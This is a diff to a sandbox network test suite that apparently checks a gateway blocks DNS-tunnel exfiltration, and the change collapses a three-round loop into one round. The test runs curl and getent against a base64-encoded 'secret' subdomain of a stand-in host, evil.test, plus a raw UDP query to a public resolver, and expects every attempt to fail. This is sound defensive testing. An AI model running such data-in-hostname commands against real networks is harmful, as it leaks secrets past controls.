@@ -157,19 +157,12 @@ describe("NET-3 F7 names", options, () => {
   test("are resolved outside, and for whom they are permitted: no tunnel of questions", async () => {
     const before = internet.dns.asked.length;
     const { gateway } = await run(`
-      for n in 1 2 3; do
-        curl -sS -m 5 "https://c2VjcmV0$n.evil.test/" 2>&1 | grep -c 403
-        getent hosts "c2VjcmV0$n.evil.test" || echo unresolved
-        python3 -c 'import socket; s = socket.socket(2, 2); s.settimeout(0.2)
+      curl -sS -m 5 "https://c2VjcmV0.evil.test/" 2>&1 | grep -c 403
+      getent hosts "c2VjcmV0.evil.test" || echo unresolved
+      python3 -c 'import socket; s = socket.socket(2, 2); s.settimeout(0.2)
 try: s.sendto(b"question", ("8.8.8.8", 53)); print("sent")
-except OSError as e: print(e.strerror)'
-      done`);
-    const round = ["1", "unresolved", "Network is unreachable"];
-    expect((gateway.settled?.output ?? "").trim().split("\n")).toEqual([
-      ...round,
-      ...round,
-      ...round,
-    ]);
+except OSError as e: print(e.strerror)'`);
+    expect(gateway.settled?.output).toBe("1\nunresolved\nNetwork is unreachable\n");
     expect(internet.dns.asked.slice(before)).toEqual([]);
   });
 });
